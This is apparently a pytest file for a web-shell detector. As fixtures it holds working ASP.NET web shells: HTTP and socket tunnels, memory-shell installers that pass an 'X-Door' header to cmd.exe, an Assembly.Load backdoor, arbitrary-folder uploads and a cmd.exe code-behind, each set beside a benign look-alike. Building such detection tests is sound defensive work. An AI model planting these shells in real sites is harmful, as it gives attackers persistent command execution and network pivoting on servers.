"""Relays, socket tunnels with settings decrypted at run time, memory-shell installers, uploads
through page controls and XSLT scripts: small shells written for these tests from published
descriptions of each technique (HTTP relay shells, ABPTTS/reGeorg-style tunnels, route and
virtual-path-provider memory shells), each beside a benign look-alike that must stay below
medium."""

from __future__ import annotations

from pathlib import Path

import pytest

from code_support import assert_benign, assert_found, chain_of, cs_page, medium_or_above, run
from exhunt.model import ProblemKind
from files_support import by_rule, hunt, server_file

# ----------------------------------------------------------------------------- HTTP tunnels

HTTP_TUNNEL = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %>
<%
string target = Request.Headers["X-Target"];
HttpWebRequest fwd = (HttpWebRequest)WebRequest.Create(target);
fwd.Method = "POST";
byte[] body = Request.BinaryRead(Request.ContentLength);
using (var s = fwd.GetRequestStream()) { s.Write(body, 0, body.Length); }
fwd.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);
%>"""

WEBCLIENT_TUNNEL = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var wc = new System.Net.WebClient();
    string url = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["u"]));
    byte[] answer = wc.UploadData(url, "POST", Request.BinaryRead(Request.ContentLength));
    Response.BinaryWrite(answer);
}
</script>"""


@pytest.mark.parametrize("code", [HTTP_TUNNEL, WEBCLIENT_TUNNEL], ids=["request-stream", "upload-data"])
def test_relay_to_a_url_the_request_names_is_a_tunnel(code: str) -> None:
    report = run("relay.aspx", code)
    assert "EXH-WS-CODE-HTTP-TUNNEL" in medium_or_above(report)
    chain = chain_of(report, "EXH-WS-CODE-HTTP-TUNNEL")
    assert "sends data to the URL it names" in chain
    assert "request header 'X-Target'" in chain or "form field 'u'" in chain


OPEN_IMAGE_PROXY = """<%@ Page Language="C#" %>
<%
var wc = new System.Net.WebClient();
Response.ContentType = "image/png";
Response.BinaryWrite(wc.DownloadData(Request.QueryString["src"]));
%>"""


def test_an_open_fetcher_is_request_forgery_not_a_tunnel() -> None:
    # Any URL the client names is fetched (medium, suspicious); nothing is posted to it.
    report = run("image-proxy.aspx", OPEN_IMAGE_PROXY)
    assert medium_or_above(report) == ["EXH-WS-CODE-HTTP-RELAY"]


RELAY_LOOK_ALIKES = [
    (
        "image-proxy.aspx",
        # The same proxy for the site's own image server: the client picks the picture, not the server.
        OPEN_IMAGE_PROXY.replace(
            'Request.QueryString["src"]', '"https://cdn.example.com/img/" + Request.QueryString["src"]'
        ),
    ),
    (
        "webhook.aspx",
        """<%@ Page Language="C#" %>
<%
var hook = (System.Net.HttpWebRequest)System.Net.WebRequest.Create(
    System.Configuration.ConfigurationManager.AppSettings["hookUrl"]);
hook.Method = "POST";
byte[] note = System.Text.Encoding.UTF8.GetBytes(Request.Form["comment"]);
using (var s = hook.GetRequestStream()) { s.Write(note, 0, note.Length); }
new System.Net.WebClient().UploadString("https://example.com/api/notify", Request.Form["comment"]);
%>""",
    ),
]


@pytest.mark.parametrize(("name", "code"), RELAY_LOOK_ALIKES, ids=[c[0] for c in RELAY_LOOK_ALIKES])
def test_fetching_or_posting_to_a_fixed_server_is_not_reported(name: str, code: str) -> None:
    assert_benign(name, code)


# ----------------------------------------------------------------------------- socket tunnels

# Settings (host, port) arrive encrypted in one request parameter, are decrypted and unpacked
# at run time, and reach a socket inside a connection class the page itself declares.
DECRYPTED_SOCKET_TUNNEL = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
public class Tunnel {
    public Socket Sock;
    public void Open(string DestHost, int DestPort) {
        Sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        Sock.Connect(DestHost, DestPort);
    }
}
protected const string key = "%KEY%";
byte[] Unwrap(byte[] data) {
    var aes = new System.Security.Cryptography.RijndaelManaged();
    return aes.CreateDecryptor(System.Text.Encoding.ASCII.GetBytes(key), new byte[16]).TransformFinalBlock(data, 0, data.Length);
}
void Page_Load(object sender, EventArgs e) {
    byte[] block = Unwrap(Convert.FromBase64String(Request.Params["blk"]));
    string[] settings = System.Text.Encoding.UTF8.GetString(block).Split(':');
    var table = new System.Collections.Hashtable();
    table.Add("host", settings[0]);
    string host = (string)table["host"];
    int port = int.Parse(settings[1]);
    Tunnel t = new Tunnel();
    t.Open(host, port);
    Session["tunnel"] = t;
}
</script>"""


def test_socket_tunnel_with_settings_decrypted_at_run_time() -> None:
    report = run("tunnel.aspx", DECRYPTED_SOCKET_TUNNEL)
    assert "EXH-WS-CODE-TUNNEL" in medium_or_above(report)
    chain = chain_of(report, "EXH-WS-CODE-TUNNEL")
    assert "request parameter 'blk'" in chain
    assert "decrypts it with AES (Rijndael)" in chain
    assert "Socket.Connect" in chain


UDP_RELAY = """<%@ Page Language="VB" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
Sub Page_Load()
    Dim u As New UdpClient()
    Dim b As Byte() = Convert.FromBase64String(Request.Form("d"))
    u.Send(b, b.Length, Request.Form("h"), CInt(Request.Form("p")))
End Sub
</script>"""

UDP_SYSLOG = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var u = new System.Net.Sockets.UdpClient();
    var b = System.Text.Encoding.UTF8.GetBytes("login " + Request.Form["user"]);
    u.Send(b, b.Length, "syslog.example.com", 514);
}
</script>"""


def test_datagrams_to_a_host_the_request_names_are_a_tunnel() -> None:
    # `UdpClient.Send(bytes, length, host, port)`: the client picks where the datagram goes.
    assert "UdpClient.Send" in chain_of(run("udp.aspx", UDP_RELAY), "EXH-WS-CODE-TUNNEL")


def test_datagrams_of_request_data_to_a_fixed_host_are_not() -> None:
    # A login sent to the site's own syslog server: request data, but a destination in the code.
    assert_benign("syslog.aspx", UDP_SYSLOG)


def test_a_named_pipe_the_request_names_is_a_tunnel() -> None:
    # A pipe on the machine the client names, over SMB: the next hop, or a local service's pipe.
    code = cs_page(
        'var pipe = new System.IO.Pipes.NamedPipeClientStream(Request["host"], "svcctl");\n'
        "pipe.Connect(2000);\nRequest.InputStream.CopyTo(pipe);"
    )
    assert_found("pipe.aspx", code, "EXH-WS-CODE-TUNNEL", ["request parameter 'host'", "new NamedPipeClientStream"])
    assert_benign("pipe-fixed.aspx", code.replace('Request["host"]', '"."'))


def test_socket_to_a_configured_host_in_an_own_class_is_not_a_tunnel() -> None:
    code = """<%@ Page Language="C#" %>
<script runat="server">
public class Probe {
    public System.Net.Sockets.Socket Sock;
    public void Open(string host, int port) { Sock.Connect(host, port); }
}
void Page_Load(object sender, EventArgs e) {
    Probe p = new Probe();
    p.Open(System.Configuration.ConfigurationManager.AppSettings["smtp"], 25);
    Label1.Text = Request.QueryString["q"];
}
</script>"""
    report = run("health.aspx", code)
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


# ----------------------------------------------------------------------------- memory shells

ROUTE_INSTALLER_PAGE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Routing" %>
<script runat="server">
public class Ghost : IRouteHandler {
    public IHttpHandler GetHttpHandler(RequestContext ctx) { return new GhostHandler(); }
}
void Page_Load(object sender, EventArgs e) {
    RouteTable.Routes.Insert(0, new Route("favicon.png", new Ghost()));
    Response.Write("ok");
}
</script>"""

VPP_INSTALLER_PAGE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Hosting" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var provider = new ShadowProvider();
    typeof(HostingEnvironment).GetMethod("Register" + "VirtualPathProviderInternal",
        BindingFlags.NonPublic | BindingFlags.Static).Invoke(null, new object[] { provider });
}
</script>"""

ROUTE_INSTALLER_CLASS = """using System;
using System.Web;
using System.Web.Routing;
public class QuietRoute : RouteBase {
    static QuietRoute() { RouteTable.Routes.Insert(0, new QuietRoute()); }
    public override RouteData GetRouteData(HttpContextBase http) {
        var ctx = HttpContext.Current;
        if (ctx.Request.Form["k"] != null) {
            byte[] raw = Convert.FromBase64String(ctx.Request.Form["k"]);
            System.Reflection.Assembly.Load(raw).CreateInstance("P").Equals(ctx);
        }
        return null;
    }
    public override VirtualPathData GetVirtualPath(RequestContext r, RouteValueDictionary v) { return null; }
}"""


# .NET Remoting opened from a page: a TCP channel and a well-known service endpoint that take
# serialized calls from anyone who reaches the port or the URI.
REMOTING_CHANNEL_PAGE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.Remoting" %>
<%@ Import Namespace="System.Runtime.Remoting.Channels" %>
<%@ Import Namespace="System.Runtime.Remoting.Channels.Tcp" %>
<script runat="server">
public class Door : MarshalByRefObject {
    public string Run(string c) { return c; }
}
void Page_Load(object sender, EventArgs e) {
    ChannelServices.RegisterChannel(new TcpChannel(8443), false);
    RemotingConfiguration.RegisterWellKnownServiceType(typeof(Door), "d.rem", WellKnownObjectMode.Singleton);
}
</script>"""


# A handler hooked into the running application's request events from a page: it runs on every
# later request the application instance serves, in C# and with VB's AddHandler.
EVENT_HOOK_PAGE = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    Context.ApplicationInstance.PostAuthenticateRequest += Door;
}
static void Door(object s, EventArgs e) {
    var c = ((HttpApplication)s).Request.Headers["X-Door"];
    if (c != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
}
</script>"""
EVENT_HOOK_VB = """<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    AddHandler HttpContext.Current.ApplicationInstance.BeginRequest, AddressOf Door
End Sub
Shared Sub Door(s As Object, e As EventArgs)
End Sub
</script>"""


# An MVC global filter, a Web API message handler and a controller factory installed from a
# page: each runs on every later request to the application's controllers.
MVC_FILTER_PAGE = """<%@ Page Language="C#" %>
<script runat="server">
public class Door : System.Web.Mvc.ActionFilterAttribute {
    public override void OnActionExecuting(System.Web.Mvc.ActionExecutingContext c) {
        var x = c.HttpContext.Request.Headers["X-Door"];
        if (x != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + x);
    }
}
void Page_Load(object sender, EventArgs e) {
    System.Web.Mvc.GlobalFilters.Filters.Add(new Door());
}
</script>"""
WEBAPI_HANDLER_PAGE = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    System.Web.Http.GlobalConfiguration.Configuration.MessageHandlers.Insert(0, new DoorHandler());
}
</script>"""
CONTROLLER_FACTORY_PAGE = """<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    System.Web.Mvc.ControllerBuilder.Current.SetControllerFactory(New DoorFactory())
End Sub
</script>"""


@pytest.mark.parametrize(
    ("name", "code", "words"),
    [
        ("filter.aspx", MVC_FILTER_PAGE, ["GlobalFilters.Filters.Add", "from a page"]),
        ("handler.aspx", WEBAPI_HANDLER_PAGE, ["MessageHandlers.Insert", "from a page"]),
        ("factory.aspx", CONTROLLER_FACTORY_PAGE, ["ControllerBuilder.Current.SetControllerFactory", "from a page"]),
        ("hook.aspx", EVENT_HOOK_PAGE, ["ApplicationInstance.PostAuthenticateRequest", "from a page"]),
        ("hook-vb.aspx", EVENT_HOOK_VB, ["ApplicationInstance.BeginRequest", "hooked into the application's requests"]),
        ("route.aspx", ROUTE_INSTALLER_PAGE, ["RouteTable.Routes.Insert", "from a page"]),
        ("remoting.aspx", REMOTING_CHANNEL_PAGE, ["ChannelServices.RegisterChannel", "from a page"]),
        (
            "vpp.aspx",
            VPP_INSTALLER_PAGE,
            ["HostingEnvironment.RegisterVirtualPathProviderInternal", "called by reflection"],
        ),
        ("QuietRoute.cs", ROUTE_INSTALLER_CLASS, ["RouteTable.Routes.Insert", "form field 'k'", "Assembly.Load"]),
    ],
    ids=[
        "mvc-filter-page",
        "webapi-handler-page",
        "controller-factory-page",
        "event-hook-page",
        "event-hook-vb",
        "route-page",
        "remoting-page",
        "vpp-reflection-page",
        "route-class",
    ],
)
def test_memory_shell_installer(name: str, code: str, words: list[str]) -> None:
    report = assert_found(name, code, "EXH-WS-CODE-MEMORY-SHELL", [])
    assert "EXH-WS-CODE-MEMORY-SHELL" in medium_or_above(report), [c.chain for c in report.capabilities]
    chain = chain_of(report, "EXH-WS-CODE-MEMORY-SHELL")
    for word in words:
        assert word in chain, chain


MEMSHELL_LOOK_ALIKES = [
    (
        "Global.asax",
        """<%@ Application Language="C#" %>
<script runat="server">
void Application_Start(object sender, EventArgs e) {
    System.Web.Routing.RouteTable.Routes.MapPageRoute("product", "p/{id}", "~/Product.aspx");
    System.Web.Routing.RouteTable.Routes.Add("feed", new System.Web.Routing.Route("feed", new FeedHandler()));
}
</script>""",
    ),
    (
        "RouteConfig.cs",
        """using System.Web.Routing;
public static class RouteConfig {
    public static void Register() {
        RouteTable.Routes.Add("feed", new Route("feed/{name}", new FeedRouteHandler()));
    }
}
public class FeedRouteHandler : IRouteHandler {
    public System.Web.IHttpHandler GetHttpHandler(RequestContext ctx) {
        string name = ctx.HttpContext.Request.QueryString["name"];
        return new FeedHandler(System.IO.Path.GetFileName(name));
    }
}""",
    ),
    (
        "global.asax",
        """<%@ Application Language="C#" %>
<script runat="server">
void Application_Start(object sender, EventArgs e) {
    System.Runtime.Remoting.RemotingConfiguration.Configure(Server.MapPath("~/remoting.config"), false);
}
</script>""",
    ),
    (
        "FilterConfig.cs",
        # MVC's own start-up: the global filters and Web API handlers added once, in App_Start.
        """using System.Web.Mvc;
public class FilterConfig {
    public static void Register() {
        GlobalFilters.Filters.Add(new HandleErrorAttribute());
        System.Web.Http.GlobalConfiguration.Configuration.MessageHandlers.Add(new TimingHandler());
        ControllerBuilder.Current.SetControllerFactory(new UnityControllerFactory());
    }
}""",
    ),
    (
        "TimingModule.cs",
        # A module hooking its application's events in Init, as modules do.
        """using System.Web;
public class TimingModule : IHttpModule {
    public void Init(HttpApplication app) {
        app.BeginRequest += (s, e) => app.Context.Items["t0"] = System.DateTime.UtcNow;
        app.EndRequest += (s, e) => app.Response.AppendHeader("X-Elapsed", "1");
    }
    public void Dispose() {}
}""",
    ),
    (
        "ThemeProvider.cs",
        """using System.Web.Hosting;
public class ThemeProvider : VirtualPathProvider {
    public static void AppInitialize() { HostingEnvironment.RegisterVirtualPathProvider(new ThemeProvider()); }
    public override bool FileExists(string virtualPath) {
        return System.Web.HttpContext.Current.Request.Cookies["theme"] != null || Previous.FileExists(virtualPath);
    }
}""",
    ),
]


@pytest.mark.parametrize(("name", "code"), MEMSHELL_LOOK_ALIKES, ids=[c[0] for c in MEMSHELL_LOOK_ALIKES])
def test_routes_and_providers_registered_at_start_are_not_memory_shells(name: str, code: str) -> None:
    assert_benign(name, code)


# ----------------------------------------------------------------------------- uploads and XSLT


def test_upload_control_saved_to_a_folder_typed_in_the_page() -> None:
    code = """<%@ Page Language="C#" %>
<script runat="server">
protected void Go(object sender, EventArgs e) {
    string name = System.IO.Path.GetFileName(Up.FileName);
    Up.SaveAs(Dir.Text + "\\\\" + name);
}
</script>
<asp:TextBox ID="Dir" runat="server" /><asp:FileUpload ID="Up" runat="server" />"""
    report = run("up.aspx", code)
    assert "EXH-WS-CODE-FILE-WRITE" in medium_or_above(report)
    chain = chain_of(report, "EXH-WS-CODE-FILE-WRITE")
    assert "page control 'dir' (TextBox.text)" in chain and "page control 'up' (FileUpload)" in chain


def test_upload_control_saved_inside_the_site_is_not_reported() -> None:
    code = """<%@ Page Language="C#" %>
<script runat="server">
protected void Go(object sender, EventArgs e) {
    Up.SaveAs(Server.MapPath("~/uploads/" + Dir.Text + "/" + System.IO.Path.GetFileName(Up.FileName)));
}
</script>
<asp:TextBox ID="Dir" runat="server" /><asp:FileUpload ID="Up" runat="server" />"""
    report = run("up.aspx", code)
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


def test_stylesheet_from_the_request_is_compiled_with_its_scripts() -> None:
    code = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %><%@ Import Namespace="System.Xml.Xsl" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    string xsl = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["x"]));
    XmlDocument sheet = new XmlDocument();
    sheet.LoadXml(xsl);
    XslCompiledTransform xct = new XslCompiledTransform();
    xct.Load(sheet, new XsltSettings(false, true), new XmlUrlResolver());
    var doc = new XmlDocument(); doc.LoadXml("<r/>");
    xct.Transform(doc, null, Response.Output);
}
</script>"""
    report = run("xslt.aspx", code)
    assert "EXH-WS-CODE-COMPILE" in medium_or_above(report)
    chain = chain_of(report, "EXH-WS-CODE-COMPILE")
    assert "form field 'x'" in chain and "XslCompiledTransform.Load" in chain


def test_site_stylesheet_chosen_by_name_is_not_reported() -> None:
    code = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var xct = new System.Xml.Xsl.XslCompiledTransform();
    xct.Load(Server.MapPath("~/App_Data/xsl/" + System.IO.Path.GetFileName(Request.QueryString["t"]) + ".xslt"));
    xct.Transform(Server.MapPath("~/App_Data/feed.xml"), null, Response.Output);
}
</script>"""
    report = run("feed.aspx", code)
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


# ----------------------------------------------------------------------------- loops, constructors


def test_paths_reach_a_helper_class_through_its_constructor_and_a_loop() -> None:
    code = """<%@ Page Language="C#" %>
<script runat="server">
public class Walker {
    public Walker(string[] roots) {
        foreach (string root in roots) {
            foreach (var d in new System.IO.DirectoryInfo(root).GetDirectories()) { Response.Write(d.Name); }
        }
    }
}
protected void Go(object sender, EventArgs e) {
    new Walker(Paths.Text.Split(';'));
}
</script>
<asp:TextBox ID="Paths" runat="server" TextMode="MultiLine" />"""
    report = run("acl.aspx", code)
    assert "EXH-WS-CODE-FILE-READ" in medium_or_above(report)
    assert "page control 'paths' (TextBox.text)" in chain_of(report, "EXH-WS-CODE-FILE-READ")


def test_loop_over_fixed_folders_is_not_reported() -> None:
    code = """<%@ Page Language="C#" %>
<script runat="server">
public class Walker {
    public Walker(string[] roots) {
        foreach (string root in roots) { Response.Write(new System.IO.DirectoryInfo(root).GetFiles().Length); }
    }
}
protected void Page_Load(object sender, EventArgs e) {
    new Walker(new[] { Server.MapPath("~/App_Data"), Server.MapPath("~/Uploads") });
    Label1.Text = Request.QueryString["q"];
}
</script>"""
    report = run("sizes.aspx", code)
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


# ----------------------------------------------------------------------------- code-behind and markup

CODE_BEHIND = b"""using System;
using System.Diagnostics;
public partial class Tools : System.Web.UI.Page {
    protected void Run_Click(object sender, EventArgs e) {
        var psi = new ProcessStartInfo("cmd.exe", "/c " + CmdBox.Text);
        psi.UseShellExecute = false;
        psi.RedirectStandardOutput = true;
        Output.Text = Process.Start(psi).StandardOutput.ReadToEnd();
    }
}"""
MARKUP = b"""<%@ Page Language="C#" CodeFile="Tools.aspx.cs" Inherits="Tools" %>
<form runat="server"><asp:TextBox ID="CmdBox" runat="server" />
<asp:Button ID="Run" runat="server" OnClick="Run_Click" /><asp:Label ID="Output" runat="server" /></form>"""


def test_code_behind_is_read_with_the_controls_of_its_page(tmp_path: Path) -> None:
    behind = server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx.cs", CODE_BEHIND)
    alone = by_rule(hunt(behind))
    # CmdBox is declared in the markup only: alone, the code-behind's undeclared name is taken
    # for a control of markup that was not read
    assert "control 'cmdbox' (.text; declared in markup that was not read)" in (
        alone["EXH-WS-CODE-PROCESS"].detail("chain") or ""
    )
    server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx", MARKUP)
    found = by_rule(hunt(behind))
    chain = found["EXH-WS-CODE-PROCESS"].detail("chain") or ""
    assert "page control 'cmdbox' (TextBox.text)" in chain and "runs it as a command" in chain


def test_code_behind_with_a_fixed_command_stays_quiet_beside_its_page(tmp_path: Path) -> None:
    fixed = CODE_BEHIND.replace(b'"/c " + CmdBox.Text', b'"/c ipconfig"')
    behind = server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx.cs", fixed)
    server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx", MARKUP)
    assert [f.rule_id for f in hunt(behind).findings if f.rule_id.startswith("EXH-WS-CODE")] == []


def test_unreadable_page_markup_is_a_problem_of_the_code_behind(tmp_path: Path) -> None:
    behind = server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx.cs", CODE_BEHIND)
    page = Path(behind.ref.path).with_name("Tools.aspx")
    page.mkdir()  # a folder where the page should be: there, but not a file to read
    result = hunt(behind)
    assert not [e for e in result.errors if "page markup" in e.message]  # not a file: no page
    page.rmdir()
    page.symlink_to(tmp_path / "elsewhere.aspx")
    (tmp_path / "elsewhere.aspx").write_bytes(MARKUP)
    result = hunt(behind)
    problems = [e for e in result.errors if "page markup Tools.aspx not read" in e.message]
    assert problems and problems[0].kind == ProblemKind.PARTIAL
